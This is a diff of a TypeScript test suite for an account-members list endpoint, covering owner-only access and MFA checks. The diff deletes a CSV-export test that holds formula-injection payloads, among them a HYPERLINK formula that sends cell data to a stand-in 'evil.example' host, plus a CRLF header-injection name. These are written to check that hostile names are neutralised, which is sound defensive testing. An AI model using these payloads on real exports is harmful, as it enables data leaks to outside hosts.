@@ -80,8 +80,6 @@ describe('the list of an account’s members', () => {
     expect(three.members.map(({ name }) => name)).toEqual(names.slice(0, 3))
     expect(three.next).not.toBeNull()
     expect(new Set(names).size).toBe(55)
-    const file = await read(owner, id, '.csv')
-    expect(file.text.trim().split('\r\n')).toHaveLength(56)
   })
 
   test('says when somebody was last here to the hour, and an hour of visits is written once', async () => {
@@ -111,7 +109,7 @@ describe('the list of an account’s members', () => {
 })
 
 describe('who may read it (POL-10)', () => {
-  test.each(['', '.csv'])('members%s: an Owner of that account, and nobody else', async (suffix) => {
+  test('an Owner of that account, and nobody else', async () => {
     const { acme, owner, id } = await company(2)
     const globex = account('Globex')
     const refused = [
@@ -128,18 +126,18 @@ describe('who may read it (POL-10)', () => {
     ]
     const before = await refusedCount(world, 'members.listed')
     for (const person of refused) {
-      const answer = await read(person, id, suffix)
+      const answer = await read(person, id)
       expect(answer).toHaveProblem(403, 'forbidden')
       expect(answer.text).not.toContain('Member 0')
     }
     expect(await refusedCount(world, 'members.listed')).toBe(before + refused.length)
     // An account that is not there is no other answer than one of others.
-    expect(await read(owner, 'nowhere', suffix)).toHaveProblem(403, 'forbidden')
-    expect(await read(owner, 'x'.repeat(300), suffix)).toHaveProblem(400, 'bad_request')
+    expect(await read(owner, 'nowhere')).toHaveProblem(403, 'forbidden')
+    expect(await read(owner, 'x'.repeat(300))).toHaveProblem(400, 'bad_request')
     const stranger = world.person()
     stranger.agent.jar.delete('sid')
-    expect(await read(stranger, id, suffix)).toHaveProblem(401, 'sign_in_required')
-    expect(await read(owner, id, suffix)).toHaveStatus(200)
+    expect(await read(stranger, id)).toHaveProblem(401, 'sign_in_required')
+    expect(await read(owner, id)).toHaveStatus(200)
     expect(await auditCount(world, owner.id, 'members.listed')).toBeLessThanOrEqual(1)
   })
 
@@ -161,11 +159,9 @@ describe('who may read it (POL-10)', () => {
     },
   )
 
-  test('the file takes no query, and neither takes another method', async () => {
+  test('it takes no other method', async () => {
     const { owner, id } = await company(0)
-    expect(await read(owner, id, '.csv?after=x')).toHaveProblem(400, 'bad_request')
-    for (const suffix of ['', '.csv'])
-      expect(await owner.agent.json('DELETE', pathOf(id, suffix))).toHaveProblem(405, 'method_not_allowed')
+    expect(await owner.agent.json('DELETE', pathOf(id))).toHaveProblem(405, 'method_not_allowed')
   })
 })
 
@@ -177,45 +173,38 @@ describe('over a token of another origin', () => {
     const owner = await new Embedded(embedded.person({ memberships: [owned] })).enrol()
     await owner.person.agent.document('/')
     await embedded.settled()
-    for (const suffix of ['', '.csv']) {
-      expect(await owner.send('GET', pathOf(acme.accountId, suffix)), suffix).toHaveStatus(200)
-      const anew = new Embedded(owner.person)
-      expect(await anew.send('GET', pathOf(acme.accountId, suffix))).toHaveProblem(401, 'challenge_required')
-      const settingsOnly = await owner.mint({ purposes: ['settings', 'challenge'] })
-      expect(await owner.send('GET', pathOf(acme.accountId, suffix), undefined, { token: settingsOnly })).toHaveStatus(
-        403,
-      )
-      const member = new Embedded(embedded.person({ memberships: [{ ...acme, role: 'member' }] }))
-      expect(await member.send('GET', pathOf(acme.accountId, suffix))).toHaveProblem(403, 'forbidden')
-    }
+    const list = pathOf(acme.accountId)
+    expect(await owner.send('GET', list)).toHaveStatus(200)
+    expect(await new Embedded(owner.person).send('GET', list)).toHaveProblem(401, 'challenge_required')
+    const settingsOnly = await owner.mint({ purposes: ['settings', 'challenge'] })
+    expect(await owner.send('GET', list, undefined, { token: settingsOnly })).toHaveStatus(403)
+    const member = new Embedded(embedded.person({ memberships: [{ ...acme, role: 'member' }] }))
+    expect(await member.send('GET', list)).toHaveProblem(403, 'forbidden')
   })
 })
 
 describe('with the password alone (POL-11)', () => {
-  test.each(['', '.csv'])('members%s: refused where the Owner has a method', async (suffix) => {
+  test('refused where the Owner has a method', async () => {
     const { owner, id } = await company(1)
     await owner.enrol()
-    expect(await read(owner, id, suffix)).toHaveStatus(200)
+    expect(await read(owner, id)).toHaveStatus(200)
     owner.signIn()
-    expect(await read(owner, id, suffix)).toHaveProblem(401, 'challenge_required')
+    expect(await read(owner, id)).toHaveProblem(401, 'challenge_required')
     await owner.answer(await owner.code())
-    expect(await read(owner, id, suffix)).toHaveStatus(200)
+    expect(await read(owner, id)).toHaveStatus(200)
   })
 
-  test.each(['', '.csv'])(
-    'members%s: refused where the Owner has none and any account asks for one',
-    async (suffix) => {
-      const { owner, id } = await company(1)
-      const globex = account('Globex')
-      owner.memberships.push({ ...globex, role: 'member' })
-      owner.signIn()
-      expect(await read(owner, id, suffix)).toHaveStatus(200)
-      await world.requireMfa(globex.accountId)
-      expect(await read(owner, id, suffix)).toHaveProblem(401, 'enrolment_required')
-      await owner.enrol()
-      expect(await read(owner, id, suffix)).toHaveStatus(200)
-    },
-  )
+  test('refused where the Owner has none and any account asks for one', async () => {
+    const { owner, id } = await company(1)
+    const globex = account('Globex')
+    owner.memberships.push({ ...globex, role: 'member' })
+    owner.signIn()
+    expect(await read(owner, id)).toHaveStatus(200)
+    await world.requireMfa(globex.accountId)
+    expect(await read(owner, id)).toHaveProblem(401, 'enrolment_required')
+    await owner.enrol()
+    expect(await read(owner, id)).toHaveStatus(200)
+  })
 
   test('refused where everybody is asked for one', async () => {
     const strict = endsWithTest(await createWorld({ mfa: { requireMfa: 'all' } }))
@@ -262,83 +251,4 @@ test('a place is of one list and one Owner: bent, forged, or of another, it is r
   owner.memberships.push({ ...globex, role: 'owner' })
   owner.signIn()
   expect(await at(owner, globex.accountId, next), 'another account').toHaveProblem(400, 'bad_request')
-})
-
-describe('the file (POL-13)', () => {
-  /** RFC 4180, by the letter: fields in quotes, a quote doubled. */
-  function parseCsv(text: string): string[][] {
-    const rows: string[][] = []
-    let at = 0
-    while (at < text.length) {
-      const row: string[] = []
-      for (;;) {
-        expect(text[at]).toBe('"')
-        let field = ''
-        for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at++) {
-          if (text[at] === '"') at++
-          field += text[at]
-        }
-        row.push(field)
-        at += 1
-        if (text[at] !== ',') break
-        at += 1
-      }
-      expect(text.slice(at, at + 2)).toBe('\r\n')
-      at += 2
-      rows.push(row)
-    }
-    return rows
-  }
-
-  test('holds a hostile name as a text in its field, in every form of a formula’s first sign', async () => {
-    const acme = account('=1+1\r\nSet-Cookie: a=b')
-    const owner = await seen({ name: 'Olga', memberships: [{ ...acme, role: 'owner' }] })
-    const formulas = [
-      `=HYPERLINK("https://evil.example/?"&A1,"x")`,
-      '+1+1',
-      '-2+3',
-      '@SUM(1)',
-      '\t=1',
-      '\r=1',
-      '\n=1',
-      ' =1',
-      '\u200b=1',
-      '＝1+1',
-      '＋1',
-      '－1',
-      '＠A1',
-    ]
-    const harmless = ['Ann "the" Cat', 'a,b;c\td', 'line\r\nbreak', "O'Neil", 'x=1', '😀 Zoë', '', 'a";=1+1;"']
-    for (const name of [...formulas, ...harmless]) await seen({ name, memberships: [{ ...acme, role: 'member' }] })
-    const answer = await read(owner, acme.accountId, '.csv')
-    expect(answer).toHaveStatus(200)
-    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present')
-    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="mfa-members.csv"')
-    expect(answer.headers.get('cache-control')).toBe('no-store')
-    expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
-    const [head, ...rows] = parseCsv(answer.text.replace(/^\ufeff/, ''))
-    expect(head).toEqual(['Name', 'Role', 'MFA', 'Last seen'])
-    const expected = [...formulas.map((name) => `'${name}`), ...harmless, 'Olga']
-    expect(rows.map(([name]) => name).sort()).toEqual(expected.sort())
-    for (const [, role, mfa, at = ''] of rows) {
-      expect([role === 'member' || role === 'owner', mfa, new Date(at).toISOString()]).toEqual([true, 'not set up', at])
-    }
-  })
-
-  test('of more than one part is whole, or ends as broken: never as if it were whole', async () => {
-    const { owner, id } = await company(0)
-    await world.sql.execute(`insert into mfa_membership (principal_id, account_id, account_name, role, seen_at, name)
-      with recursive people (n) as (select 1 union all select n + 1 from people where n < 1200)
-      select '${id} ' || n, '${id}', 'Acme', 'member', 0, 'Somebody' from people`)
-    await world.settled()
-    world.proxy.reset()
-    const whole = await read(owner, id, '.csv')
-    expect(parseCsv(whole.text.replace(/^\ufeff/, ''))).toHaveLength(1202)
-    expect(world.proxy.roundTrips()).toBe(3)
-    world.proxy.setFault('refuse', { after: 2 })
-    await expect(read(owner, id, '.csv')).rejects.toThrow('aborted')
-    world.proxy.setFault('refuse')
-    expect(await read(owner, id, '.csv')).toHaveProblem(503, 'unavailable')
-    world.proxy.setFault(null)
-  })
 })
